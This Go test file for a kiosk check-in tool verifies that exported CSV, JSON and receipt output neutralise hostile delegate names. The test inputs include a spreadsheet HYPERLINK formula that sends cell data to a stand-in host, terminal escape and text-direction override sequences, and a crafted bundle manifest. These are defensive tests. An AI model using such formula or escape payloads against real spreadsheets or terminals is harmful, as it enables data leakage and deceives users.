package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"kiosk/data"
	"kiosk/data/badge"
	"kiosk/data/bundle"
	"kiosk/data/checkin"
	"kiosk/data/demo"
	"kiosk/data/keys"
	"kiosk/data/kioskdir"
	"kiosk/data/source"
)

// A hostile registration: a name that a spreadsheet runs as a formula,
// and one that drives a terminal (retitles it, then reverses what follows).
const (
	formulaName  = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	terminalName = "\x1b]0;pwned\x07Stock\x1b[2J\u202eevil"
)

// termUnsafe lists what must never reach a terminal raw.
var termUnsafe = []string{"\x1b", "\x07", "\u202e", "\u2066", "\x9b"}

func assertTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for _, u := range termUnsafe {
		if strings.Contains(out, u) {
			t.Errorf("%s holds %q raw: %q", what, u, out)
		}
	}
}

// hostileKiosk makes a kiosk data folder whose delegate D000003 has the
// given names, and checks that delegate in; it returns the folder and the
// check-in code.
func hostileKiosk(t *testing.T, given, family string) (string, string) {
	t.Helper()
	dir := t.TempDir()
	d, err := demo.Generate(demo.Options{})
	if err != nil {
		t.Fatal(err)
	}
	p := &d.Delegates[2]
	p.Honorific, p.GivenNames, p.FamilyName, p.FamilyFirst = "", given, family, false
	pub, priv, _ := keys.Generate()
	keyPath, pubPath, err := keys.WritePair(filepath.Join(dir, "keys"), "event", pub, priv)
	if err != nil {
		t.Fatal(err)
	}
	src, file, kiosk := filepath.Join(dir, "src"), filepath.Join(dir, "ev.kbundle"), filepath.Join(dir, "kiosk")
	if err := source.WriteDir(src, &source.Sources{Data: *d}); err != nil {
		t.Fatal(err)
	}
	if code, _, e := ctl(t, "bundle", "build", "--src", src, "--key", keyPath, "--out", file, "--version", "3"); code != 0 {
		t.Fatal(e)
	}
	if code, _, e := ctl(t, "bundle", "import", "--data", kiosk, "--trust", pubPath, file); code != 0 {
		t.Fatal(e)
	}
	ctx := context.Background()
	o, err := kioskdir.Open(ctx, kiosk, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Store.Close()
	venue, _ := time.LoadLocation("Asia/Makassar")
	now := time.Date(2016, 11, 8, 10, 15, 0, 0, venue)
	desk := checkin.New(o.Store, func() time.Time { return now })
	tok, err := badge.Issue(priv, badge.Claims{EventID: d.Event.ID, DelegateID: p.ID, Serial: 3,
		ValidFrom: now.Add(-time.Hour), ValidUntil: now.Add(time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	res, err := desk.Scan(ctx, tok, data.MethodScan)
	if err != nil || res.Status != checkin.Welcome {
		t.Fatalf("scan: %+v %v", res, err)
	}
	code, err := desk.Code(ctx, res.CheckIn)
	if err != nil {
		t.Fatal(err)
	}
	return kiosk, code
}

func TestCheckInsCSVNeutralisesFormulasAndTerminalEscapes(t *testing.T) {
	kiosk, code := hostileKiosk(t, formulaName, terminalName)
	c, out, e := ctl(t, "checkins", "--data", kiosk)
	if c != 0 {
		t.Fatal(e)
	}
	assertTerminalSafe(t, "the CSV", out)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %d rows, %v", len(rows), err)
	}
	name := rows[1][4]
	if !strings.HasPrefix(name, "'=HYPERLINK(") || !strings.Contains(name, `\x1b]0;pwned\x07Stock`) {
		t.Errorf("name cell %q: want the formula behind an apostrophe and the escapes shown, not sent", name)
	}

	c, out, e = ctl(t, "checkins", "--data", kiosk, "--format", "json")
	if c != 0 {
		t.Fatal(e)
	}
	assertTerminalSafe(t, "the JSON", out)
	var recs []checkInRecord
	if err := json.Unmarshal([]byte(out), &recs); err != nil || len(recs) != 1 || recs[0].Name != formulaName+" "+terminalName {
		t.Errorf("the JSON must still hold the name as it is: %+v %v", recs, err)
	}

	c, out, e = ctl(t, "receipt", "verify", "--data", kiosk, code)
	if c != 0 || !strings.Contains(out, `\x1b]0;pwned`) {
		t.Fatalf("receipt verify: %d %q %q", c, out, e)
	}
	assertTerminalSafe(t, "receipt verify's output", out)
}

func TestCSVCellsThatSpreadsheetsRunAreText(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\tx": `'\x09x`, "\rx": `'\x0dx`,
		"Dr Jürgen Stock": "Dr Jürgen Stock", "": "", "a=b": "a=b", "O'Brien": "O'Brien",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// bundle inspect shows an unverified manifest: its fields are whatever
// the stick's author wrote. The manifest's rules leave no field free to
// hold control characters, so such a manifest is refused, and the refusal
// quoting the field must be as safe on a terminal.
func TestBundleInspectPrintsManifestFieldsSafely(t *testing.T) {
	pub, _, _ := keys.Generate()
	m := bundle.Manifest{Format: bundle.Format, EventID: "ev\x1b]0;pwned\x07\u202e", Version: 1,
		Created: time.Now().UTC(), Expires: time.Now().UTC().AddDate(1, 0, 0), KeyID: keys.ID(pub),
		SignerKey: base64.StdEncoding.EncodeToString(pub),
		Counts:    map[string]int{}, Files: []bundle.FileEntry{{Name: "event.csv", Size: 1, SHA256: "\x1b[2J"}}}
	raw, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.CreateHeader(&zip.FileHeader{Name: bundle.ManifestName, Method: zip.Store})
	w.Write(raw)
	zw.Close()
	path := filepath.Join(t.TempDir(), "crafted.kbundle")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	c, out, e := ctl(t, "bundle", "inspect", path)
	if c == 0 || !strings.Contains(e, `ev\x1b]0;pwned\a\u202e`) {
		t.Fatalf("inspect: %d %q %q", c, out, e)
	}
	assertTerminalSafe(t, "bundle inspect's output", out+e)
}
